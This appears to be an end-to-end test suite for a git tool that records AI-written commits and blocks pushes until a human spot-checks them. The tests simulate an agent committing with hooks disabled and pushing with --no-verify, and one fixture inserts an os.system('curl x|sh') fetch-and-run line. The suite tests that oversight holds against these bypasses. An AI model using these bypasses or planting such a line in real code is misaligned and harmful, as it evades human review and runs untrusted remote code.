"""The push gate records a writer commit made with hooks off (SPEC §3 "Attribution follows
content", §7, §8): real git, ``gentle-hook install``, a bare remote with the server gate
(``install --server``) and notes shared (``install --share origin``).

A writer's commit made with ``core.hooksPath=/dev/null`` has no commit record and no note.
The pre-push gate blocks it from its content, and records it as post-commit would have
(the ledger and a note under ``refs/notes/gentle-hooks``) before blocking, so ``git push
--no-verify`` (which sends the shared notes too) meets a server gate that reads the
commit's writer from that note and rejects it; ``gate --range`` says the same.
"""

from __future__ import annotations

from tests.e2e.conftest import World

GOOD = "def add(a, b):\n    return a + b  # writer\n\n\ndef audit(x):\n    return check_all(x)\n"


def test_a_hooks_off_writer_commit_is_recorded_by_the_push_gate_that_blocks_it(
    native: World,
) -> None:
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.delegate(text=GOOD)
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "agent, hooks off")
    commit = w.rev("HEAD")
    assert w.git("notes", "--ref", "gentle-hooks", "show", commit).code != 0
    push = w.git("push", "origin", "main")
    assert push.code == 1 and any(f"BLOCKED commit {commit[:12]}" in s for s in push.said), push
    assert any(f"recorded {commit[:12]} as delegated" in s for s in push.said), push
    note = w.ok("notes", "--ref", "gentle-hooks", "show", commit)
    assert '"kind":"writer"' in note, note
    assert w.ledger("SELECT hook FROM commit_record WHERE commit_id = ?", [commit]) == [
        ("pre-push",)
    ]
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 1 and f"BLOCKED {commit[:12]}" in ci.out + ci.err, ci
    before = w.remote_ref("main")
    server = w.git("push", "--no-verify", "origin")
    assert server.code != 0, server
    assert f"remote: gentle-hooks: BLOCKED {commit[:12]}" in server.err, server
    assert w.remote_ref("main") == before
    # a second push finds the record and blocks alike, without recording again
    again = w.git("push", "origin", "main")
    assert again.code == 1 and not [s for s in again.said if "as delegated" in s], again


def test_gate_range_before_the_push_judges_a_hooks_off_writer_commit_from_the_ledger(
    native: World,
) -> None:
    """Before any push gate recorded it, ``gate --range`` in the writer's clone finds the
    writer content the commit carries (the ledger's pending records), as the push gate
    will: blocked while unverified, passing once spot-checked, with nothing recorded."""
    w = native
    w.delegate(text=GOOD)
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "agent, hooks off")
    commit = w.rev("HEAD")
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    said = ci.out + ci.err
    assert ci.code == 1 and f"BLOCKED {commit[:12]}" in said, ci
    assert "delegated (writer content (o4-mini/low) in src/app.py)" in said, ci
    assert w.ledger("SELECT hook FROM commit_record WHERE commit_id = ?", [commit]) == []
    w.report("--committed")
    w.spot_check("--committed")
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 0 and f"ok {commit[:12]} on origin/main..HEAD: delegated" in ci.out, ci
    assert w.git("push", "-q", "origin", "main").code == 0


def test_gate_range_before_the_push_leaves_a_hooks_off_human_commit_undelegated(
    native: World,
) -> None:
    """Writer work waits in ``src/app.py``; a human's commit of another file, hooks off,
    carries none of it: ``gate --range`` says not delegated."""
    w = native
    w.delegate(text=GOOD)
    w.write("README.md", "# the human's own words\n")
    w.ok("add", "README.md")
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "docs")
    commit = w.rev("HEAD")
    ci = w.gh("gate", "--range", "origin/main..HEAD")
    assert ci.code == 0 and f"ok {commit[:12]} on origin/main..HEAD: not delegated" in ci.out, ci


def test_a_hooks_off_commit_of_a_reset_writer_commit_is_recorded_by_the_push_gate(
    native: World,
) -> None:
    """The writer's commit (recorded, spot-checked) is undone with ``reset --soft``, a line
    is added to its content and the lot committed with hooks off: the entries are taken by
    the orphaned commit, yet the new one carries them. The push gate that blocks it records
    it and writes its note, so ``git push --no-verify`` meets a server gate that blocks."""
    w = native
    assert w.gh("install", "--server", cwd=w.remote).code == 0
    assert w.gh("install", "--share", "origin").code == 0
    w.delegate(text=GOOD)
    w.spot_check()
    w.ok("commit", "-qam", "agent")
    w.ok("reset", "-q", "--soft", "HEAD~1")
    w.write("src/app.py", GOOD + "\n\ndef fetch():\n    os.system('curl x|sh')\n")
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "refactor")
    commit = w.rev("HEAD")
    push = w.git("push", "origin", "main")
    assert push.code == 1 and any(f"BLOCKED commit {commit[:12]}" in s for s in push.said), push
    assert any(f"recorded {commit[:12]} as delegated" in s for s in push.said), push
    note = w.ok("notes", "--ref", "gentle-hooks", "show", commit)
    assert '"kind":"writer"' in note, note
    before = w.remote_ref("main")
    server = w.git("push", "--no-verify", "origin")
    assert server.code != 0, server
    assert f"remote: gentle-hooks: BLOCKED {commit[:12]}" in server.err, server
    assert w.remote_ref("main") == before
